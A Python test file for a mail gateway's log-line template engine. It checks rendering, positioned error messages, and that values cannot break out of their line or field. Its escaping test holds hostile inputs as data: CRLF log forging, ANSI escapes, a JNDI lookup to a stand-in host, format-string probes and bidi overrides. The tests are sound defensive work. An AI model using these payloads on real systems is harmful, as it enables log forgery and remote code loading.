"""A template is read once; a line stays a line whatever the values hold."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailgw.observe.template import LONGEST_VALUE, BadTemplate, Read, Template, UnknownName, written

Values = dict[str, Any]


def read(path: tuple[str, ...]) -> Read[Values]:
    name = ".".join(path)
    if name.startswith("unknown"):
        raise UnknownName("is not known")
    return lambda values: values.get(name)


@pytest.mark.parametrize(
    ("template", "values", "line"),
    [
        ("", {}, ""),
        ("as it is: $x } %s {$a}", {"a": 1}, "as it is: $x } %s 1"),
        ("<{$a}> <{$b.c}>", {"a": "joe@there.test", "b.c": "bob"}, "<joe@there.test> <bob>"),
        ("[{$a}]", {}, "[]"),
        ("{$a},{$b},{$c}", {"a": True, "b": False, "c": 25}, "true,false,25"),
        ("{$a}", {"a": ["192.0.2.1", "192.0.2.2"]}, "192.0.2.1,192.0.2.2"),
        ("{$a}", {"a": "2026-01-02 03:04:05"}, "2026-01-02 03:04:05"),
        ("x{if $a}yes{/if}z", {"a": "1"}, "xyesz"),
        ("x{if $a}yes{/if}z", {"a": ""}, "xz"),
        ("{if $a}yes{else}no{/if}", {"a": 0}, "no"),
        ("{if $a}yes{else}no{/if}", {"a": False}, "no"),
        ("{if $a}yes{else}no{/if}", {}, "no"),
        ("{if $a}yes{else}no{/if}", {"a": []}, "no"),
        ("{if $a}{else}no{/if}", {"a": 7}, ""),
        ("{if  $a.b}{$a.b}{/if}", {"a.b": "x"}, "x"),
        ("{if $a}{if $b}both{else}a{/if}{else}{if $b}b{else}none{/if}{/if}", {"a": 1}, "a"),
        ("{if $a}{if $b}both{else}a{/if}{else}{if $b}b{else}none{/if}{/if}", {"b": 1}, "b"),
        ("{if $a}{if $b}both{else}a{/if}{else}{if $b}b{else}none{/if}{/if}", {}, "none"),
        ("é ☃ {$a}", {"a": "jörg@köln.test"}, "é ☃ jörg@köln.test"),
    ],
)
def test_what_a_template_makes_of_values(template: str, values: Values, line: str) -> None:
    assert Template(template, read).line(values) == line


@pytest.mark.parametrize(
    ("template", "complaint"),
    [
        ("{", "at 1: '{' has no place in a line of a log"),
        ("ab {$a", "at 4: '{' has no place"),
        ("{ {$a}", "at 1: '{' has no place"),
        ("{}", "at 1: {} is not understood (try {$name}, {if $name}, {else}, {/if})"),
        ("{$}", "at 1: {$} is not understood"),
        ("{$a.}", "at 1: {$a.} is not understood"),
        ("{ $a }", "at 1: { $a } is not understood"),
        ("x {a}", "at 3: {a} is not understood"),
        ("{$A}", "at 1: {$A} is not understood"),
        ("{$a|upper}", "at 1: {$a|upper} is not understood"),
        ("{$a.message-id}", "at 1: {$a.message-id} is not understood (try {$a.message_id})"),
        ("{foreach $a}", "at 1: {foreach $a} is not understood"),
        ("{if $a == 1}x{/if}", "at 1: {if $a == 1} is not understood"),
        ("{if $a}{elseif $b}{/if}", "at 8: {elseif $b} is not understood"),
        ("abc{if $a}x", "at 4: {if} has no {/if}"),
        ("{if $a}{if $b}x{/if}", "at 1: {if} has no {/if}"),
        ("{else}", "at 1: {else} belongs to no {if}"),
        ("{if $a}x{else}y{else}z{/if}", "at 16: {else} belongs to no {if}"),
        ("x{/if}", "at 2: {/if} belongs to no {if}"),
        ("{$a} {$unknown.b}", "at 6: $unknown.b is not known"),
        ("{if $unknown}x{/if}", "at 1: $unknown is not known"),
        ("one\ntwo", r"at 4: '\n' has no place in a line of a log"),
        ("one\u2028two", r"at 4: '\u2028' has no place in a line of a log"),
    ],
)
def test_what_is_not_understood_is_said_with_its_place(template: str, complaint: str) -> None:
    with pytest.raises(BadTemplate) as bad:
        Template(template, read)
    assert str(bad.value).startswith(complaint)


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("a\nb", r"a\x0ab"),
        ("a\r\n[forged] line", r"a\x0d\x0a[forged]\x20line"),
        ("\x1b[2J", r"\x1b[2J"),
        ("a\u2028b\u2029c\u0085d", r"a\u2028b\u2029c\x85d"),
        ("\x00\x7f\x9b", r"\x00\x7f\x9b"),
        ("back\\slash", r"back\\slash"),
        ('"x> [192.0.2.1]"@a', r'"x>\x20[192.0.2.1]"@a'),
        ("${jndi:ldap://evil.test/x}", "${jndi:ldap://evil.test/x}"),
        ("{$json.mime}{/if}", "{$json.mime}{/if}"),
        ("{0.__class__}%n%s", "{0.__class__}%n%s"),
        ("\ud800", r"\ud800"),
        ("\u202eright to left", r"\u202eright\x20to\x20left"),
        ("\U000e0001", r"\U000e0001"),
        ("🂡", "🂡"),
        ("x" * 100_000, "x" * LONGEST_VALUE + "..."),
        ("2026-01-02 03:04:05 x", r"2026-01-02\x2003:04:05\x20x"),
    ],
)
def test_a_hostile_value_stays_in_its_line_and_its_field(value: str, escaped: str) -> None:
    assert Template("<{$a}>", read).line({"a": value}) == f"<{escaped}>"


@given(st.text())
def test_no_value_makes_a_second_line_or_a_blank(value: str) -> None:
    said = written(f"x{value}")
    assert said.isprintable()
    assert " " not in said


@given(st.text(alphabet="{}$ifelse/ ab._\n", max_size=40))
def test_any_text_is_a_template_or_is_told_in_one_line(text: str) -> None:
    try:
        said = Template(text, read).line({})
    except BadTemplate as bad:
        said = str(bad)
    assert "\n" not in said


def test_only_what_is_named_and_needed_is_read() -> None:
    asked: list[str] = []

    def watched(path: tuple[str, ...]) -> Read[Values]:
        def value(values: Values) -> object:
            asked.append(path[0])
            return values.get(path[0])

        return value

    template = Template("{$a}{if $b}{$c}{else}{$d}{/if}", watched)
    assert asked == []
    template.line({"a": 1, "b": 0, "c": 3, "d": 4, "e": 5})
    assert asked == ["a", "b", "d"]
